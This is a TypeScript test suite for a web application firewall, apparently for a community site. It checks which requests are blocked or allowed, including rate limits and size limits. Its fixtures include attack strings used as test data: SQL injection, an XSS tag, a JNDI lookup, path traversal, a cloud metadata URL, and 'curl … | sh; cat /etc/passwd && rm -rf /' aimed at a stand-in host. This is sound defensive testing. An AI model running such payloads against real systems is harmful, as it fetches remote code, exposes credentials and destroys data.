import assert from 'node:assert/strict'
import { test } from 'node:test'
import { endpoints } from '@porchlight/contract/endpoints'
import { maxUploadBytes } from '@porchlight/system/data'
import { contentPaths } from '@porchlight/system/web-acl/content-paths'
import { firewall } from '@porchlight/system/web-acl/porchlight'
import { inspected, type RequestParts } from '../testing/inspected.ts'
import { compileFirewall } from './compile.ts'
import { bareSources } from './sources.ts'

const json = { 'content-type': 'application/json' }

const jndi = ['$', '{jndi:ldap://x.example/a}'].join('')

/** What members write about, and attackers send. */
const words = [
  "SELECT * FROM users WHERE name = 'x' OR 1=1; -- drops nothing",
  "1' UNION SELECT password FROM users--",
  '<script>alert(1)</script> is what a page must escape',
  'curl http://x.example/install.sh | sh; cat /etc/passwd && rm -rf /',
  `../../../../etc/passwd, ${jndi}, {{7*7}}, http://169.254.169.254/latest/meta-data/`,
]

function judge(parts: RequestParts) {
  return compileFirewall(firewall, bareSources()).judge(inspected(parts))
}

test("people's own words are published, whatever they are about", () => {
  for (const { method, path, position } of contentPaths) {
    const at = position === 'EXACTLY' ? path : `${path}x`
    for (const text of words) {
      const body = JSON.stringify({ text, email: 'o@place.example', password: text })
      const { action, record } = judge({ method, path: at, body, headers: json })
      assert.equal(action, 'ALLOW', `${at}: ${text} ${record?.terminatingRuleId}`)
    }
  }
})

test('the same words in a body are stopped everywhere else, by whatever content type', () => {
  const bodies = [
    { headers: json, encode: (text: string) => JSON.stringify({ text }) },
    { headers: json, encode: (text: string) => JSON.stringify({ [text]: 1 }) },
    {
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      encode: (text: string) => `t=${encodeURIComponent(text)}`,
    },
    {
      headers: { 'content-type': 'multipart/form-data; boundary=b' },
      encode: (text: string) => `--b\r\nContent-Disposition: form-data; name="t"\r\n\r\n${text}\r\n--b--\r\n`,
    },
    { headers: { 'content-type': 'text/plain' }, encode: (text: string) => text },
  ]
  for (const text of ["1' UNION SELECT password FROM users--", '<script>alert(1)</script>', jndi]) {
    for (const { headers, encode } of bodies) {
      const { action, record } = judge({ path: '/api/timelines', body: encode(text), headers })
      assert.deepEqual([action, record?.terminatingRuleId], ['BLOCK', 'attacks-in-bodies'], encode(text))
    }
  }
})

test('an attack in the address is stopped on the way to a content path too', () => {
  const { action, record } = judge({
    path: '/api/posts',
    query: "id=1'%20UNION%20SELECT%20password%20FROM%20users--",
    body: '{}',
    headers: json,
  })
  assert.equal(action, 'BLOCK')
  assert.equal(record?.terminatingRuleId, 'sqli')
})

test('beside a password an attack is stopped, in it nothing is', () => {
  const attack = "' or 1=1 -- -"
  const at = (path: string, body: object) => judge({ path, body: JSON.stringify(body), headers: json })
  assert.equal(at('/api/auth/sign-in', { email: 'a@place.example', password: attack }).action, 'ALLOW')
  const beside = at('/api/auth/sign%2Din', { email: attack, password: 'x' })
  assert.equal(beside.action, 'BLOCK')
  assert.equal(
    at('/api/auth/sign-in', { email: attack, password: 'x' }).record?.terminatingRuleId,
    'attacks-beside-passwords',
  )
  assert.equal(at('/api/auth/sign-in', { email: "o'brien@place.example", password: 'x' }).action, 'ALLOW')
})

test('tries at secrets are counted by address and path, and told when to come again', () => {
  const evaluator = compileFirewall(firewall, bareSources())
  const attempt = (address: string, path = '/api/auth/sign-in', method = 'POST') =>
    evaluator.judge(inspected({ address, path, method, ...(method === 'POST' && { body: '{}' }) }))
  for (let turn = 0; turn < 300; turn += 1) assert.equal(attempt('192.0.2.1').action, 'ALLOW')
  const refused = attempt('192.0.2.1')
  assert.deepEqual([refused.action, refused.response?.status], ['BLOCK', 429])
  assert.deepEqual(refused.response?.headers, [['Retry-After', '60']])
  assert.equal(attempt('192.0.2.1', '/api/auth/sign%2din').action, 'BLOCK')
  assert.equal(attempt('192.0.2.2').action, 'ALLOW')
  assert.equal(attempt('192.0.2.1', '/api/auth/sign-up').action, 'ALLOW')
  assert.equal(attempt('192.0.2.1', '/api/auth/sign-in', 'GET').action, 'ALLOW')
  const [rate] = refused.record?.rateBasedRuleList ?? []
  assert.deepEqual(rate?.customValues, [
    { key: 'IP', value: '192.0.2.1' },
    { key: 'URI_PATH', value: '/api/auth/sign-in' },
  ])
})

test('a flood from one address is refused, and no other address with it', () => {
  const evaluator = compileFirewall(firewall, bareSources({ now: () => 1_800_000_000_000 }))
  let refused = 0
  for (let turn = 0; turn < 36_010; turn += 1) {
    if (evaluator.judge(inspected({ address: '2001:db8::1' })).action === 'BLOCK') refused += 1
  }
  assert.equal(refused, 10)
  assert.equal(evaluator.judge(inspected({ address: '2001:db8::2' })).action, 'BLOCK', 'the same /64')
  assert.equal(evaluator.judge(inspected({ address: '2001:db8:0:1::1' })).action, 'ALLOW')
})

test('a body is bounded by the length that it announces, a picture more widely', () => {
  const of = (path: string, length: string) =>
    judge({ path, method: 'PUT', body: 'x', headers: { 'content-length': length } })
  assert.equal(of('/api/posts', '999999').action, 'ALLOW')
  assert.equal(of('/api/posts', '1000000').response?.status, 413)
  assert.equal(of('/uploads/1', String(maxUploadBytes)).action, 'ALLOW')
  assert.equal(of('/uploads/1', String(maxUploadBytes + 1)).response?.status, 413)
})

test('a grant in the address of a picture is not taken for an attack', () => {
  const query = `expires=1795564800&signature=${'0f1e2d3c4b5a6978'.repeat(4)}`
  const id = '0198f7a2-5c1e-7d3b-9f64-2b7c1d9e8f00'
  assert.equal(judge({ method: 'PUT', path: `/uploads/private/${id}`, query, body: words.join('\n') }).action, 'ALLOW')
  assert.equal(judge({ path: `/renders/private/${id}/medium.avif`, query }).action, 'ALLOW')
})

test('what opens a web socket is not taken for an attack, wherever its token stands', () => {
  for (let turn = 0; turn < 200; turn += 1) {
    const token = ['{"alg":"RS256"}', `{"sub":"0198f7a2-${turn}"}`, String.fromCharCode(turn, 255 - turn).repeat(128)]
      .map((part) => Buffer.from(part, 'latin1').toString('base64url'))
      .join('.')
    const presented = Buffer.from(JSON.stringify({ host: 'place.example', Authorization: token }))
    const query = `header=${encodeURIComponent(presented.toString('base64'))}&payload=e30=`
    const protocols = `graphql-ws, header-${presented.toString('base64url')}`
    for (const asked of [
      { path: '/graphql/realtime', query },
      { path: '/graphql/realtime', headers: { 'sec-websocket-protocol': protocols } },
      { path: '/graphql', body: '{"query":"{ __typename }"}', headers: { ...json, authorization: `Bearer ${token}` } },
    ]) {
      assert.equal(judge(asked).action, 'ALLOW', `${turn}`)
    }
  }
})

test('a hundred members may be asked for by their ids; elsewhere so long a query is refused', () => {
  const query = `ids=${Array(100).fill('0198f7a2-5c1e-7d3b-9f64-2b7c1d9e8f00').join(',')}`
  assert.equal(judge({ path: '/api/members', query }).action, 'ALLOW')
  for (const path of ['/api/members/', '/api/posts', '/']) assert.equal(judge({ path, query }).action, 'BLOCK', path)
  assert.equal(judge({ path: '/api/members', query, method: 'POST' }).action, 'BLOCK')
})

test('programs without a name, and names of people, pass', () => {
  assert.equal(judge({ headers: { 'user-agent': '' } }).action, 'ALLOW')
  for (const q of ["O'Brien", 'D’Angelo', 'drop table', 'select a seat', 'C:\\ drive', 'a & b; c']) {
    assert.equal(judge({ path: '/api/members', query: `q=${encodeURIComponent(q)}` }).action, 'ALLOW', q)
  }
})

test('no address of the place itself is taken for an attack', () => {
  const others = ['GET /openapi.json', 'GET /reference', 'GET /auth/.well-known/openid-configuration', 'GET /auth/jwks']
  for (const endpoint of [...Object.keys(endpoints), ...others]) {
    const [method = '', path = ''] = endpoint.split(' ')
    const { action, record } = judge({ method, path: `/api${path.replaceAll(/:\w+/g, 'x')}` })
    assert.equal(action, 'ALLOW', `${endpoint}: ${record?.terminatingRuleId}`)
  }
})
